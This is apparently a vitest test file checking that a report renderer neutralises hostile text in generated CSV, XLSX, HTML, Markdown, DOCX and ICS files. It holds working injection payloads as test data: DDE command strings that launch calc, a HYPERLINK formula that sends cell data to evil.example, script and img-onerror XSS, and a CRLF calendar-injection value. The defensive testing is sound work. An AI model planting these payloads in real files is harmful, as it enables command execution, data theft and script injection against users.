/**
 * Hostile plan text: formulas and DDE commands neutralised in CSV and XLSX, markup escaped in HTML
 * and Markdown, no lines injected into calendars, control characters not breaking XLSX or DOCX.
 */
import { analyzePlan, Plan, unitDeadlines } from '@fengong/core';
import ExcelJS from 'exceljs';
import ICAL from 'ical.js';
import JSZip from 'jszip';
import { describe, expect, test } from 'vitest';
import { neutralizeFormula, REPORT_KINDS, renderBundle, renderReport } from '../src';
import { PRINT_SHEET } from '../src/formats/xlsx';
import { seedRegistry, text } from './seed';

const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?q="&A1,"点击领取")',
  dde: "+cmd|' /C calc'!A0",
  minus: '-2+3+cmd|" /C notepad"!A1',
  at: '@SUM(1+1)*cmd|"/C calc"!A0',
  tab: '\t=1+1',
  script: '<script>alert("x")</script>加强信息公开',
  img: '<img src=x onerror=alert(1)>做好回应关切',
  ics: '第一行\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:注入的事件;,\\',
  bell: '含控制字符\u0007\u0001的任务',
};

const plan = Plan.parse({
  meta: { title: '<b>测试</b>方案=1+1', issued: '2021-07-01', documentNumber: '"><script>x</script>' },
  categories: [{ name: HOSTILE.minus }, { name: '<img src=x onerror=alert(2)>类别' }],
  requirements: [
    {
      number: 1,
      text: '各牵头单位于10月30日前报送。',
      duties: [
        {
          actor: { kind: 'role', role: 'lead' },
          action: HOSTILE.ics,
          recipient: '市政府办公室',
          deadline: '10月30日前',
          scope: 'ledTasks',
        },
      ],
    },
  ],
  tasks: [
    {
      number: 1,
      category: HOSTILE.minus,
      text: HOSTILE.formula,
      units: '市财政局牵头，=cmd|x!A1配合',
      deadline: '2021年9月前',
    },
    { number: 2, category: HOSTILE.minus, text: HOSTILE.dde, units: '市财政局', deadline: '2021年12月前' },
    {
      number: 3,
      category: HOSTILE.minus,
      text: HOSTILE.at,
      units: '市财政局、<script>alert(3)</script>局',
      deadline: '2021年9月前',
    },
    {
      number: 4,
      category: '<img src=x onerror=alert(2)>类别',
      text: HOSTILE.script,
      units: '市财政局',
      deadline: '长期工作',
    },
    {
      number: 5,
      category: '<img src=x onerror=alert(2)>类别',
      text: HOSTILE.img,
      units: '市财政局',
      deadline: '2021年9月前',
    },
    {
      number: 6,
      category: '<img src=x onerror=alert(2)>类别',
      text: HOSTILE.ics,
      units: '市财政局',
      deadline: '2021年12月前',
    },
    {
      number: 7,
      category: '<img src=x onerror=alert(2)>类别',
      text: HOSTILE.tab,
      units: '市财政局',
      deadline: '2021年12月前',
    },
    {
      number: 8,
      category: '<img src=x onerror=alert(2)>类别',
      text: HOSTILE.bell,
      units: '市财政局',
      deadline: '2021年12月前',
    },
  ],
});
const analysis = analyzePlan(plan, { registry: seedRegistry });
const asOf = '2021-10-01';

/** Parse RFC 4180 CSV (quoted fields with doubled quotes, CRLF records). */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let field = '';
  let row: string[] = [];
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && csv[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

const DANGEROUS = /^[=+\-@\t\r]/;

describe('formula injection (CSV, XLSX)', () => {
  test('no CSV field of any report starts a formula; the text is kept after the quote', async () => {
    for (const kind of REPORT_KINDS) {
      const file = await renderReport({
        kind,
        format: 'csv',
        analysis,
        asOf,
        ...(kind === 'unit' ? { unit: '市财政局' } : {}),
      });
      const csv = text(file.bytes);
      expect(csv.charCodeAt(0)).toBe(0xfeff);
      for (const field of parseCsv(csv.slice(1)).flat()) expect(field).not.toMatch(DANGEROUS);
      if (kind === 'ledger') {
        const fields = parseCsv(csv.slice(1)).flat();
        expect(fields).toContain(`'${HOSTILE.formula}`);
        expect(fields).toContain(`'${HOSTILE.dde}`);
        expect(fields).toContain(`'${HOSTILE.at}`);
        // The plan model trims cells, so the tab case is checked on the renderer's helper below.
        expect(fields).toContain(`'${plan.tasks[6]!.text}`);
        expect(fields).toContain(`'${HOSTILE.minus}`);
      }
    }
  });

  test('no plan text becomes a formula: formula-like text is a plain text cell, without a visible apostrophe; the only formulas are fengong’s status and light cells', async () => {
    for (const kind of REPORT_KINDS) {
      const file = await renderReport({
        kind,
        format: 'xlsx',
        analysis,
        asOf,
        ...(kind === 'unit' ? { unit: '市财政局' } : {}),
      });
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(file.bytes.slice().buffer as ArrayBuffer);
      let strings = 0;
      let formulaLike = 0;
      for (const ws of wb.worksheets) {
        const print = ws.name.startsWith(PRINT_SHEET);
        const headers = (ws.getRow(print ? 2 : 3).values as unknown[]).map(String);
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.type === ExcelJS.ValueType.Formula) {
              // The status and light cells follow the 完成情况 drop-down (live-workbook.test.ts); the
              // print version's 状态 reads them, and a hidden column after its table the 完成情况.
              if (print && headers[Number(cell.col)] === undefined)
                expect(cell.formula).toMatch(/^IF\('[^']+'!\$[A-Z]+\$\d+="","",'[^']+'!\$[A-Z]+\$\d+\)$/);
              else if (print) {
                expect(headers[Number(cell.col)]).toBe('状态');
                expect(cell.formula).toMatch(/^'[^']+'!\$[A-Z]+\$\d+$/);
              } else expect(['状态', '亮灯']).toContain(headers[Number(cell.col)]);
              expect(cell.formula).not.toMatch(/HYPERLINK|cmd|evil/);
              return;
            }
            if (typeof cell.value === 'string') {
              strings++;
              expect(cell.value).not.toMatch(/^'[=+\-@\t\r]/);
              if (DANGEROUS.test(cell.value)) formulaLike++;
            }
          }),
        );
      }
      expect(strings).toBeGreaterThan(0);
      if (kind === 'ledger') expect(formulaLike).toBeGreaterThan(0);
      const zip = await JSZip.loadAsync(file.bytes);
      for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/[^/]+\.xml$/.test(n))) {
        for (const [, formula] of (await zip.file(name)!.async('string')).matchAll(/<f>([^<]*)<\/f>/g))
          expect(formula!.replaceAll('&apos;', "'").replaceAll('&quot;', '"')).toMatch(
            /^IF\(\$[A-Z]+\d+=|^'[^']+'!\$[A-Z]+\$\d+$|^IF\('[^']+'!\$[A-Z]+\$\d+="",/,
          );
      }
    }
  });

  test('text starting with a tab or CR is neutralised too', () => {
    expect(neutralizeFormula(HOSTILE.tab)).toBe(`'${HOSTILE.tab}`);
    expect(neutralizeFormula('\r=1')).toBe("'\r=1");
    expect(neutralizeFormula('市财政局=牵头')).toBe('市财政局=牵头');
  });

  test('control characters are dropped so the workbook and the document stay readable', async () => {
    const xlsx = await renderReport({ kind: 'ledger', format: 'xlsx', analysis, asOf });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.bytes.slice().buffer as ArrayBuffer);
    const values = wb.worksheets[0]!.getSheetValues()
      .flat()
      .filter((v) => typeof v === 'string');
    expect(values).toContain('含控制字符的任务');
    const docx = await renderReport({ kind: 'ledger', format: 'docx', analysis, asOf });
    const xml = await (await JSZip.loadAsync(docx.bytes)).file('word/document.xml')!.async('string');
    expect(xml).toContain('含控制字符的任务');
    expect(xml).not.toMatch(/[\u0000-\u0008]/);
  });
});

describe('markup (HTML, Markdown)', () => {
  test('every HTML report and the index: hostile text shown as text, never as markup', async () => {
    const files = await renderBundle({ analysis, asOf, formats: ['html'], units: ['市财政局'] });
    expect(files.map((f) => f.fileName)).toContain('index.html');
    for (const file of files) {
      const html = text(file.bytes);
      expect(html).not.toMatch(/<script/i);
      expect(html).not.toMatch(/<img/i);
      expect(html).not.toMatch(/<b>测试/);
      expect(html).not.toMatch(/onerror=alert\(\d\)>/);
      expect(html).not.toMatch(/https?:\/\/(?!evil\.example)/); // no external requests
      expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'`);
    }
    const ledger = text(files.find((f) => f.fileName === '任务分工台账.html')!.bytes);
    expect(ledger).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;加强信息公开');
    expect(ledger).toContain('&lt;img src=x onerror=alert(1)&gt;做好回应关切');
    expect(ledger).toContain('&lt;b&gt;测试&lt;/b&gt;方案=1+1');
    expect(ledger).toContain('&quot;&gt;&lt;script&gt;x&lt;/script&gt;');
  });

  test('Markdown escapes tags, table pipes and line breaks', async () => {
    const md = text((await renderReport({ kind: 'ledger', format: 'md', analysis, asOf })).bytes);
    expect(md).not.toMatch(/(^|[^\\])<(script|img|b>)/m);
    expect(md).toContain('\\<script\\>alert("x")\\</script\\>加强信息公开');
    expect(md).toContain("+cmd\\|' /C calc'!A0");
    for (const line of md.split('\n').filter((l) => l.startsWith('| '))) {
      // Every table row has the header's number of unescaped pipes.
      expect(line.replace(/\\\|/g, '').split('|').length).toBe(8);
    }
  });
});

describe('calendars (ICS)', () => {
  test('CR/LF in a task or duty cannot start a line: one event per deadline, text intact', async () => {
    const file = await renderReport({ kind: 'unit', format: 'ics', analysis, asOf, unit: '市财政局' });
    const raw = text(file.bytes);
    const lines = raw.split('\r\n');
    const dated = unitDeadlines(analysis, '市财政局');
    expect(dated).toHaveLength(8);
    expect(lines.filter((l) => l === 'BEGIN:VEVENT')).toHaveLength(8);
    expect(lines.filter((l) => l.startsWith('SUMMARY:注入'))).toHaveLength(0);
    expect(raw).not.toMatch(/[^\r]\n/);
    const events = new ICAL.Component(ICAL.parse(raw)).getAllSubcomponents('vevent');
    expect(events).toHaveLength(8);
    const task6 = events.find((e) => String(e.getFirstPropertyValue('uid')).startsWith('task-6.'))!;
    expect(String(task6.getFirstPropertyValue('description'))).toContain(
      '第一行\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:注入的事件;,\\',
    );
    const duty = events.find((e) => String(e.getFirstPropertyValue('uid')).startsWith('notice-'))!;
    expect(String(duty.getFirstPropertyValue('summary'))).toBe(
      '【报送截止】第一行\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:注入的事件;,\\',
    );
  });
});
